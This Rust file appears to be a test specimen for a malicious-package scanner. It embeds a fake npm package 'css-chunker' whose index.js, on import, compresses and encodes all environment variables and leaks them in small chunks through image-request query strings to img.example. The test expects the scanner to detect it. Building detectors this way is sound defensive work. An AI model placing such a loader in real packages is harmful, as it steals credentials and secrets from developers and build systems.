//! An npm package that, when it is imported, sends gzip and base64 of the AWS keys of the environment in
//! pieces, one a query.
//!
//! Must be found: no request holds enough to be decoded by itself.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const INDEX_JS: &str = r"const zlib = require('zlib');
const https = require('https');
const all = zlib.gzipSync(JSON.stringify(process.env)).toString('base64url');
(async () => {
  for (let at = 0, n = 0; at < all.length; at += 90, n++) {
    await new Promise((done) => {
      const request = https.get(`https://img.example/p.gif?n=${n}&d=${all.slice(at, at + 90)}`, (answer) => answer.resume().on('end', done));
      request.on('error', done);
    });
  }
})();
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("css-chunker", "1.0.2")
        .file("index.js", INDEX_JS)
        .field("main", "index.js".into());
    package.specimen(
        "npm-chunks-in-queries",
        Expect::malicious(&["canary-exfiltrated"]),
    )
}
